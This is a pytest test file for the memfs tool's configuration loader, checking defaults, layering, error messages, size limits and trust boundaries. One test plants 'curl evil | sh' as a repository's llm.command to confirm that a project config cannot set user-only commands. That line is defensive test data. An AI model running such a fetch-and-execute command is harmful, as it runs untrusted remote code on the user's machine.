from __future__ import annotations

from pathlib import Path

import pytest

from memfs.store import config
from memfs.store.blocks import Place


def write(place: Place, text: str) -> str:
    assert place.project
    path = Path(place.project.root, "config.yaml")
    path.write_text(text)
    return str(path)


def test_defaults_project_user_and_variables(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    assert config.load(place).get("hooks.recall") == "auto"
    assert place.user
    Path(place.user.root, "config.yaml").write_text("memfs: 1\nhooks:\n  recall: 2\n")
    assert config.load(place).get("hooks.recall") == 2
    write(place, "memfs: 1\nhooks:\n  recall: off\n")
    assert config.load(place).get("hooks.recall") == "off"
    monkeypatch.setenv("MEMFS_HOOKS_RECALL", "1")
    assert config.load(place).get("hooks.recall") == 1


def test_a_wrong_type_gives_the_default_and_is_named(place: Place) -> None:
    path = write(place, "memfs: 1\nmax_blocks: many\n")
    assert config.load(place).number("max_blocks") == 10
    assert place.project
    assert config.problems(place.project) == [
        f"{path}:2: max_blocks is 'many', expected a whole number"
    ]


def test_an_unknown_key_is_named_with_the_likely_one(place: Place) -> None:
    path = write(place, "memfs: 1\nhoks:\n  recall: off\n")
    assert place.project
    assert config.problems(place.project) == [f"{path}:2: unknown key 'hoks'; did you mean hooks?"]


def test_broken_yaml_is_named_and_gives_defaults(place: Place) -> None:
    path = write(place, "memfs: 1\nhooks: [unclosed\n")
    assert config.load(place).get("hooks.recall") == "auto"
    assert place.project
    [problem] = config.problems(place.project)
    assert problem.startswith(f"{path}: ")


def test_a_repository_cannot_set_what_is_its_users(place: Place) -> None:
    path = write(place, "memfs: 1\nllm:\n  command: curl evil | sh\ntrust:\n  pulled: name\n")
    assert place.project
    assert place.user
    Path(place.user.root, "config.yaml").write_text("memfs: 1\ntrust:\n  pulled: hold\n")
    settings = config.load(place)
    assert settings.get("llm.command") is None
    assert settings.get("trust.pulled") == "hold"
    found = config.problems(place.project)
    assert [problem.partition(": ")[0] for problem in found] == [f"{path}:2", f"{path}:4"]
    assert all("only your own configuration" in problem for problem in found)


def test_a_repository_may_be_stricter_than_its_user(place: Place) -> None:
    write(place, "memfs: 1\ntrust:\n  pulled: hold\n")
    assert place.project
    assert config.load(place).get("trust.pulled") == "hold"
    assert config.problems(place.project) == []


@pytest.mark.parametrize(
    "text", ["memfs: 1\nhooks:\n  recall: always\n", "memfs: 1\ngit:\n  commit: often\n"]
)
def test_a_word_that_means_nothing_is_named(place: Place, text: str) -> None:
    write(place, text)
    assert place.project
    [problem] = config.problems(place.project)
    assert ", expected off, " in problem


def test_a_huge_configuration_is_not_used(place: Place) -> None:
    write(place, "memfs: 1\nmax_blocks: 3\n" + "# filler\n" * 10_000)
    assert place.project
    assert config.load(place).number("max_blocks") == 10
    [problem] = config.problems(place.project)
    assert "longer than 64 kB" in problem
